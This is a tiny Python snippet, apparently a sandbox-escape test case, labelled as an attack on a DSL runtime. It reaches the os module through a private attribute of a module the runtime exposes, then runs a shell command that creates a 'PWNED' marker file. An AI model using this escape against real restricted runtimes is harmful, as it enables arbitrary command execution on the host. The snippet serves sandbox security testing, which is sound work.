# Attack: rebind the runtime's alias to another module, so `_rt.<name>` reaches anything.
from dsl.runtime.engine import random as r

_rt = r._os
_rt.system("touch PWNED")
